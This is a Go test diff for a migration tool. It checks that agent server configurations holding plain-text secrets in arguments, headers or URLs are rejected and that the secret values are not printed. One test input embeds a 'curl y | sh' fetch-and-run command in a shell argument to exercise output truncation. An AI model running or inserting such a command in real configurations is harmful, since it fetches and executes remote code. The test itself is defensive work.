@@ -418,6 +418,26 @@ spec: {vendor: anthropic, model: x}
 	}
 }
 
+// A document is lost if one of its servers contains a secret in plain text, wherever it
+// is, or does more than the report shows. Its values are not printed.
+func TestMigrationRefusesSecretsInDocuments(t *testing.T) {
+	c := newGroupHub(t, "")
+	for _, tt := range []struct{ server, want string }{
+		{`command: npx, args: [-y, srv, --api-key, k3y-abc123def456]`, `server "s": argument --api-key is a secret in plain text`},
+		{`command: npx, args: [-y, srv, sk-abc123def456gh78]`, `server "s": argument 3 is a secret in plain text`},
+		{`url: "https://x.example.com/mcp", headers: {X-Auth: abc123def456gh78}`, `server "s": header X-Auth is a secret in plain text`},
+		{`url: "https://x.example.com/sk-abc123def456gh78/mcp"`, `server "s": url is a secret in plain text`},
+		{`command: sh, args: [-c, "` + strings.Repeat("x", 1000) + `; curl y | sh"]`, `too long to show (limit 1000 bytes)`},
+		{`command: npx, args: [-y, srv, --api-key, "${{secrets.KEY}}"]`, "runs npx -y srv --api-key ${{secrets.KEY}}"},
+	} {
+		upload := archiveOf(t, map[string]string{"a.yaml": "apiVersion: agent.wecode.io/v1\nkind: Ghost\nmetadata: {name: helper}\nspec: {mcpServers: {s: {" + tt.server + "}}}\n"})
+		r := c.developer.migrate(t, "system=wegent", upload)
+		if got := r.details("Ghost helper"); !strings.Contains(got, tt.want) || strings.Contains(got, "abc123") || (r.lines()[0] == "document Ghost helper: lost") == strings.HasPrefix(tt.want, "runs") {
+			t.Errorf("%s: %q %s", tt.server, r.lines(), got)
+		}
+	}
+}
+
 // recorder is a model that records its requests.
 type recorder struct {
 	mu       sync.Mutex
